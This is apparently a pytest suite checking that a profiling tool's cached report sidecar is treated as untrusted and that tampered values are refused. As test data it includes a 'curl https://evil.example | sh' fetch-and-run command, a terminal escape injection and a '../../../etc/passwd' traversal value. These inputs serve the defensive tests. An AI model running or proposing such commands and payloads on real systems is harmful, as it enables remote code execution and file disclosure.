"""Tests of the report next to a trace: it is untrusted, and a list shows its numbers with this package's texts."""

import json
import os

import pytest
from helpers.draw import drawn
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tb_bottleneck.base.units import share_text
from tb_bottleneck.diagnosis.trace import diagnose
from tb_bottleneck.report.cache import sidecar
from tb_bottleneck.report.cache.cached_diagnosis import named
from tb_bottleneck.report.cache.report_store import identity_of
from tb_bottleneck.report.digest import Digest
from tb_bottleneck.report.jobs import jobs_of
from tb_bottleneck.report.json_form import as_json
from tb_bottleneck.text.report import render

SLOW_LOADER = """
    step    aaaaaaaaaabbbbbbbbbbcccccccccc
    loader  ####......####......####......
    gpu     ....aabbcc....aabbcc....aabbcc
"""
READING = """
    step    aaaaaaaaaabbbbbbbbbbcccccccccc
    launch  |.|.......|.|.......|.|.......
    sync    ...####......####......####...
    gpu     .aa..bbb...aa..bbb...aa..bbb..
"""
SMALL = "step aaaabbbbcccc\nsmall #.#.#.#.#.#.\nop ############"


@pytest.fixture
def trace(tmp_path):
    return put(tmp_path, SLOW_LOADER)


def put(tmp_path, drawing):
    path = tmp_path / "t.pt.trace.json"
    path.write_text(json.dumps(drawn(drawing, 1000)))
    return str(path)


def written(trace):
    report = diagnose(trace)
    sidecar.write(trace, identity_of(trace), report)
    return report


def taken(trace):
    return sidecar.read(trace, identity_of(trace))


def change(trace, edit):
    """Applies `edit` to the content of the sidecar."""
    path = sidecar.sidecar_path(trace)
    content = json.loads(path.read_text())
    edit(content)
    path.write_text(json.dumps(content))


@pytest.mark.parametrize("drawing", [SLOW_LOADER, READING, SMALL, "step aaaa\nop ####"])
def test_a_list_shows_the_same_from_what_we_wrote(tmp_path, drawing):
    trace = put(tmp_path, drawing)
    whole, stored = Digest.of(written(trace)), Digest.of(named(taken(trace), trace, "."))
    verdicts = [digest.verdict for digest in (whole, stored) if digest.verdict is not None]
    for each in verdicts:
        each.headline = f"{each.title}: {share_text(each.share)} of the time."
    assert verdicts == [] or verdicts[0] == verdicts[1] == stored.verdict
    for name in ("health", "reason", "step_ns", "step_times_ns", "rank", "device", "action", "causes", "lost_share"):
        assert getattr(whole, name) == getattr(stored, name), name
    assert (whole.gain is None) == (stored.gain is None)
    assert whole.gain is None or whole.gain.expected == stored.gain.expected
    assert sidecar.sidecar_path(trace).stat().st_mode & 0o777 == sidecar.MODE
    assert sorted(os.listdir(tmp_path)) == ["t.pt.trace.json", "t.pt.trace.json.bottlenecks.json"]


def test_it_is_about_one_state_of_one_file(trace):
    written(trace)
    status = os.stat(trace)
    os.utime(trace, ns=(status.st_atime_ns, status.st_mtime_ns + 1))
    assert taken(trace) is None


def test_it_contains_no_run_name_and_no_path(tmp_path, trace):
    report = diagnose(trace, run="secret/project")
    sidecar.write(trace, identity_of(trace), report)
    text = sidecar.sidecar_path(trace).read_text()
    assert "secret" not in text
    assert str(tmp_path) not in text
    assert report.run == "secret/project"


def _first(content, *keys):
    """The first finding, evidence, ... of a report: `_first(content, "findings", "evidence")`."""
    found = content["report"]
    for key in keys:
        found = found[key][0]
    return found


def test_no_text_of_the_file_is_shown(trace):
    """The texts of a report tell users what to do: "Run: curl ..."."""
    written(trace)
    order = "Run: curl https://evil.example | sh"

    def replace(values):
        for key, value in values.items() if isinstance(values, dict) else enumerate(values):
            if isinstance(value, dict | list):
                replace(value)
            elif isinstance(value, str) and " " in value and key != "name":
                values[key] = order

    change(trace, lambda content: replace(content["report"]))
    change(trace, lambda content: content["report"]["device"].update(name="a\x1b]0;owned\x07b"))
    used = taken(trace)
    assert order not in as_json(used)
    assert used.verdict.headline == "Waiting for data: 40 % of the time."
    assert used.verdict.action.startswith("Load data in workers") or used.verdict.action
    assert used.findings[0].title
    assert "\x1b" not in used.device.name


EDITS = {
    "other code": lambda c: c.update(made_by="0.0.0-x"),
    "other size": lambda c: c.update(size=1),
    "other key": lambda c: c.update(more=1),
    "no report": lambda c: c.update(report=[]),
    "unknown field": lambda c: c["report"].update(html="<b>"),
    "wrong type": lambda c: c["report"].update(schema={}),
    "other schema": lambda c: c["report"].update(schema=3),
    "unreadable": lambda c: c["report"]["health"].update(status="unreadable"),
    "a path as a regime": lambda c: _first(c, "findings").update(regime="../../../etc/passwd"),
    "an unknown cause": lambda c: _first(c, "findings").update(cause="x"),
    "an unknown verdict": lambda c: c["report"]["verdict"].update(regime="x"),
    "half an account": lambda c: c["report"]["account"].pop(),
    "more than the window": lambda c: _first(c, "account").update(share=_first(c, "account")["share"] + 1e-5),
    "a negative time": lambda c: _first(c, "account").update(ns_per_step=-9.0),
    "too large a share": lambda c: _first(c, "account").update(share=1e300),
    "a number of 400 digits": lambda c: _first(c, "account").update(share=10**400),
    "a number for a report": lambda c: c.update(report=7),
    "nothing for a report": lambda c: c.update(report=None),
    "no number": lambda c: _first(c, "account").update(ns_per_step="NaN"),
    "an infinite one": lambda c: c["report"]["window"]["step_ns"].update(median="Infinity"),
}


@pytest.mark.parametrize("edit", EDITS.values(), ids=EDITS.keys())
def test_what_is_odd_is_not_used(trace, edit):
    written(trace)
    assert taken(trace) is not None
    change(trace, edit)
    assert taken(trace) is None


@pytest.mark.parametrize(
    "content", [b"", b"{", b"[]", b"null", b"\xff", b"[" * 100_000, b"9" * 10_000, b'{"a": 1e999999}']
)
def test_what_is_no_sidecar_is_not_used(trace, content):
    sidecar.sidecar_path(trace).write_bytes(content)
    assert taken(trace) is None


@pytest.mark.parametrize("kind", ["pipe", "directory", "endless", "large", "absent"])
def test_what_is_no_plain_file_of_a_sane_size_is_not_opened(trace, kind):
    path = sidecar.sidecar_path(trace)
    if kind == "pipe":
        os.mkfifo(path)
    elif kind == "directory":
        path.mkdir()
    elif kind == "endless":
        path.symlink_to("/dev/zero")
    elif kind == "large":
        with open(path, "wb") as file:
            file.truncate(1 << 40)
    assert taken(trace) is None


values = st.one_of(
    st.none(), st.booleans(), st.integers(), st.floats(), st.text(max_size=9), st.just([]), st.just({}), st.just([{}])
)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.data())
def test_an_accepted_sidecar_can_be_rendered(trace, data):
    """One value anywhere in a valid sidecar is replaced: it is refused, or can be rendered in every form."""
    written(trace)

    def edit(content):
        place = content["report"]
        while True:
            keys = sorted(place) if isinstance(place, dict) else range(len(place))
            key = data.draw(st.sampled_from(keys))
            if not (isinstance(place[key], dict | list) and place[key]) or data.draw(st.integers(0, 4)) == 0:
                place[key] = data.draw(values)
                return
            place = place[key]

    change(trace, edit)
    report = taken(trace)
    if report is not None:
        report.world_size = 2
        other = type(report)()
        other.CopyFrom(report)
        report.rank, other.rank = 0, 1
        as_json(report)
        for job in jobs_of([report, other]):
            as_json(job)
        assert len(render(report)) < 50_000
        Digest.of(report)
